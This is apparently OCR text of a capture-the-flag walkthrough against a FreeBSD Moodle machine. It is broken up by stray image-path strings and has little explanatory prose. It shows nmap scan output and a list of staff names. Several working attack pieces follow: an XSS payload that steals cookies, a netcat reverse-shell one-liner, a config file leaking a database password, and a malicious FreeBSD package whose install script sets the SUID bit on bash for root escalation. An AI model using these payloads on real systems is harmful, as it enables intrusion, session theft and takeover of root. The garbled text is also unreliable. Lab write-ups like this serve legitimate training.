PORT      STATE SERVICE REASON         VERSION
22/tcp open ssh syn-ack ttl 63 OpenSSH 7.9 (FreeBSD 20200214; protocol 2.0)
| ssh-hostkey:
| 2048 1d:69:83:78:fc:91:f8:19:c8:75:a7:1e:76:45:05:dc (RSA)
| ssh-rsaAAAAB3NzaC1yc2EAAAADAQABAAABAQDGY8PnQ2GFk9RrUQ82xGivlyXZ8k99JFZAFlNqJIftRHSGWL3HsfaO08lnGCrqVxj3235k0L74SJAqWfJs1ykTRipcZpsI5QvwYPyqpisMgH
| 256 e9:b2:d2:23:9d:cf:0e:63:e0:6d:b9:b1:a6:86:93:38 (ECDSA)
| ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHc4TgrG+CyKqaIsk10XmAhUKULXK6Bq3bHHeJiWuBmdGS1k3Fp60OoVFdDKQj9aihkaUmbJ8f
| 256 7f:51:88:f7:3c:dd:77:5e:ba:25:4d:4c:09:25:ea:1f (ED25519)
|_ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPWIP8gV7SGQNoODfYq9qg1k3j6ZZg+1L9zIU9FrHPaf
80/tcp open http syn-ack ttl 63 Apachehttpd 2.4.46 ((FreeBSD) PHP/7.4.15)
33060/tcp open mysqlx? syn-ack ttl 63
| fingerprint-strings:
| DNSStatusRequestTCP, LDAPSearchReq, SSLSessionReq, TLSSessionReq, X11Probe:
| Invalid message"
| HY000
| LDAPBindReq:
| *Parse error unserializing protobuf message"
|_ HY000


Names found from subdomain

Jamie Borham
Lianne Carter
Jane Higgins
Manuel Phillips
This is a self enrollment course. Forstudents who wish to attend my lectures be sure that you have your MoodleNet profile set.Students who do not set their MoodleNet profiles will be  removed from the course before the course is due to start and I will be checking all students who are enrolled on this course.
<img src=x onerror="this.src=''+document.cookie; this.removeAttribute('onerror');">
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i |nc <ip> <port> > /tmp/f
$CFG->dbtype    = 'mysqli';
$CFG->dblibrary = 'native';
$CFG->dbhost = 'localhost';
$CFG->dbname = 'moodle';
$CFG->dbuser = 'moodle';
$CFG->dbpass = 'PlaybookMaster2020';
$CFG->prefix = 'mdl_';

You want to run post-install and pre-deinstall tasks as it makes sure your files are in place when you do the system manipulation

rm -rf ${STAGEDIR}
mkdir -p ${STAGEDIR}
# careful here, this may clobber your system
echo "Resetting root shell"pw usermod -n root -s /bin/sh
# careful here, this may clobber your system
echo "Registering root shell"
chmod +s /usr/local/bin/bash
name: mypackage
version: "1.0_5"
origin: sysutils/mypackage
comment: "automates stuff"
desc: "automates tasks which can also be undone later"
maintainer: john@doe.it
www: https://doe.it
prefix:/
mkdir -p ${STAGEDIR}/usr/local/etc
echo "#hello world" > ${STAGEDIR}/usr/local/etc/my.conf
echo "/usr/local/etc/my.conf" >${STAGEDIR}/plist
pkg create -m ${STAGEDIR}/ -r ${STAGEDIR}/ -p ${STAGEDIR}/plist -o .Get the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS Appstore
A button that says 'Get it on, Google Play', and ifclicked it will leadyou to the Google Play store